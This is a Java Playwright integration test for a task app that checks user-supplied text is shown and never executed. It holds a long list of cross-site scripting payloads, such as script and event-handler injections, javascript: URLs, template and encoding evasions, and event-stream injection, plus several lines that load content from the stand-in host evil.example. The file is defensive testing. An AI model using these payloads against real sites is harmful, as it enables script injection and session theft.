package dev.tidings.it.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What users write stays text on the page, wherever it comes in. */
class ActivityInjectionIT {

    /** Scripts that would set {@code pwned}, in the ways that markup, attributes, URLs, styles and templates offer. */
    private static final List<String> MARKUP = List.of(
            "<script>X</script>",
            "<ScRiPt>X</sCrIpT>",
            "</title><script>X</script>",
            "</textarea><script>X</script>",
            "</style><script>X</script>",
            "--><script>X</script>",
            "]]><script>X</script>",
            "<script src=//evil.example/x.js></script>",
            "<script type=module>X</script>",
            "<img src=x onerror=X>",
            "<img src=x onerror=\"X\">",
            "<IMG SRC=x OnErRoR=X>",
            "<img/src=x/onerror=X>",
            "<img src=//evil.example/x.png>",
            "<svg onload=X>",
            "<svg><script>X</script></svg>",
            "<svg><animate onbegin=X attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg onload=X>\">",
            "<body onload=X>",
            "<iframe src=javascript:X></iframe>",
            "<iframe srcdoc=\"<script>parent.pwned=1</script>\">",
            "<object data=javascript:X></object>",
            "<embed src=javascript:X>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css';</style>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
            "<form action=//evil.example/><input type=submit autofocus onfocus=X></form>",
            "<input autofocus onfocus=X>",
            "<details open ontoggle=X>",
            "<video><source onerror=X></video>",
            "<audio src=x onerror=X>",
            "<marquee onstart=X>",
            "<math><mtext><table><mglyph><style><img src=x onerror=X>",
            "<template><script>X</script></template>",
            "<a href=javascript:X autofocus onfocus=X>x</a>",
            "<div style=\"background:url(//evil.example/x)\">",
            "<button formaction=javascript:X>x",
            "<select autofocus onfocus=X>",
            "<x contenteditable autofocus onfocus=X>",
            "\" onmouseover=\"X",
            "' onfocus='X' autofocus='",
            "\"><img src=x onerror=X>",
            "'><script>X</script>",
            "` onerror=`X",
            "javascript:X",
            "data:text/html,<script>X</script>",
            "JaVaScRiPt:X",
            "java\tscript:X",
            "vbscript:X",
            "{{constructor.constructor('X')()}}",
            "${X}",
            "#{X}",
            "<%= X %>",
            "*{X}",
            "&lt;script&gt;X&lt;/script&gt;",
            "&#x3C;img src=x onerror=X&#x3E;",
            "\\u003cscript\\u003eX\\u003c/script\\u003e",
            "%3Cscript%3EX%3C/script%3E",
            "<scr<script>ipt>X</scr</script>ipt>",
            "\uFF1Cscript\uFF1EX\uFF1C/script\uFF1E",
            "\u2028<script>X</script>",
            "\u202E<script>X</script>",
            "data: x\n\nevent: task-created\ndata: <script>X</script>",
            "id: 1\revent: snapshot\rdata: []",
            "constructor",
            "toString");

    private static final List<String> ODD_IDS = List.of(
            "__proto__",
            "constructor",
            "prototype",
            "toString",
            "hasOwnProperty",
            "new-title",
            "tasks",
            "position",
            "sign-out",
            "a:b.c-d_e",
            "0",
            "-1",
            "javascript:alert",
            "x".repeat(128));

    @TempDir
    private static Path folder;

    private static ActivityStage stage;

    @BeforeAll
    static void open() throws Exception {
        stage = new ActivityStage(folder);
    }

    @AfterEach
    void goHome() throws Exception {
        stage.reset();
    }

    @AfterAll
    static void close() {
        if (stage != null) {
            stage.close();
        }
    }

    private static List<String> payloads() {
        return MARKUP.stream()
                .map(text -> text.replace("X", "(window.pwned=1,alert(1))"))
                .toList();
    }

    private static void send(String method, String path, String cookie, JsonObject body) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(stage.base() + path))
                .header("Content-Type", "application/json")
                .method(
                        method,
                        body == null
                                ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofString(body.encode()));
        if (!cookie.isEmpty()) {
            request.header("Cookie", cookie).header("Origin", stage.base());
        }
        HttpResponse<String> answer =
                HttpClient.newHttpClient().send(request.build(), HttpResponse.BodyHandlers.ofString());
        assertThat(answer.statusCode()).as("%s %s %s", method, path, body).isBetween(200, 299);
    }

    /** The cookie of somebody of such a name; empty when the hub takes no such name. */
    private static String cookieOf(String name) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(stage.base() + "/api/session"))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(
                        new JsonObject().put("name", name).encode()))
                .build();
        HttpResponse<String> answer = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
        return answer.headers()
                .firstValue("Set-Cookie")
                .map(cookie -> cookie.substring(0, cookie.indexOf(';')))
                .orElse("");
    }

    @Test
    void showsWhatUsersWriteAsTextAndNeverDoesIt() throws Exception {
        List<String> payloads = payloads();
        assertThat(payloads).hasSizeGreaterThanOrEqualTo(60).doesNotHaveDuplicates();
        Page page = stage.signedIn("Ada");
        // the first half comes live, the second with the load
        for (int i = 0; i < payloads.size(); i++) {
            if (i == payloads.size() / 2) {
                page.reload();
                ActivityStage.awaitState(page, "Connected");
            }
            inEveryField(i, payloads.get(i));
        }
        int last = payloads.size() - 1;
        page.locator(".task[data-id=t" + last + "] .is-done, .task.is-done[data-id=t" + last + "]")
                .waitFor();
        for (int i = 0; i < payloads.size(); i++) {
            String shown = page.textContent(".task[data-id=t" + i + "] .title");
            assertThat(shown).isEqualTo(payloads.get(i));
            assertThat(page.textContent(".task[data-id=t" + i + "] .assignee bdi"))
                    .isEqualTo(payloads.get(i));
        }
        touchEverything(page, payloads.get(9));
        assertHarmless(page);
    }

    private static void inEveryField(int i, String payload) throws Exception {
        String cookie = cookieOf(payload);
        JsonObject task = new JsonObject()
                .put("id", "t" + i)
                .put("title", payload)
                .put("assignee", payload)
                .put("note", new JsonArray().add(new JsonObject().put("deep", payload)));
        if (!payload.equals("constructor")) {
            task.put(payload, payload);
        }
        send("POST", "/api/tasks", cookie, task);
        send(
                "PATCH",
                "/api/tasks/t" + i,
                cookie,
                new JsonObject().put("note", payload).put("done", true));
    }

    /** Edits, hovers and focuses what has been written, and signs in under such a name. */
    private static void touchEverything(Page page, String payload) {
        page.fill("#new-title", payload);
        page.keyboard().press("Enter");
        page.locator(".task .title").first().click();
        page.keyboard().press("Escape");
        page.locator(".task .assignee").nth(1).hover();
        page.locator(".entry").first().hover();
        Page other = stage.signedIn(payload);
        assertThat(other.textContent("#me")).isEqualTo(payload);
        assertHarmless(other);
    }

    private static void assertHarmless(Page page) {
        assertThat(page.evaluate("() => [window.pwned, violations, ({}).pwned, ({}).x]"))
                .isEqualTo(Arrays.asList(null, List.of(), null, null));
        assertThat(page.locator(
                                "script:not([src^='/']), main img, iframe, object, embed, main svg, main style, main link,"
                                        + " base, main form:not(#add), main a")
                        .count())
                .isZero();
        assertThat(stage.oddities()).isEmpty();
    }

    @Test
    void takesOddIdsForWhatTheyAre() throws Exception {
        Page page = stage.signedIn("Ada");
        for (String id : ODD_IDS) {
            String path = "/api/tasks/" + URLEncoder.encode(id, StandardCharsets.UTF_8);
            send("PUT", path, "", new JsonObject().put("title", "odd " + id));
            send("PATCH", path, "", new JsonObject().put("done", true));
        }
        for (String id : ODD_IDS) {
            page.locator(".task.is-done .title", new Page.LocatorOptions().setHasText("odd " + id))
                    .first()
                    .waitFor();
        }
        for (String id : ODD_IDS) {
            send("DELETE", "/api/tasks/" + URLEncoder.encode(id, StandardCharsets.UTF_8), "", null);
        }
        page.waitForFunction(
                "() => ![...document.querySelectorAll('.title')].some(e => e.textContent.startsWith('odd '))");
        assertHarmless(page);
    }

    @Test
    void wouldSeeWhatMustNotHappen() {
        Page page = stage.signedIn("Ada");
        Object refused = page.evaluate("""
                () => {
                  const tried = [];
                  try { document.body.insertAdjacentHTML('beforeend', '<img src=x>'); } catch { tried.push('markup'); }
                  const script = document.createElement('script');
                  try { script.text = 'window.pwned = 1'; } catch { tried.push('script'); }
                  const image = new Image();
                  image.src = 'http://evil.example/x.png';
                  return tried;
                }""");
        assertThat(refused).isEqualTo(List.of("markup", "script"));
        page.waitForFunction("() => violations.length >= 3");
        assertThat(stage.oddities()).isNotEmpty();
    }
}
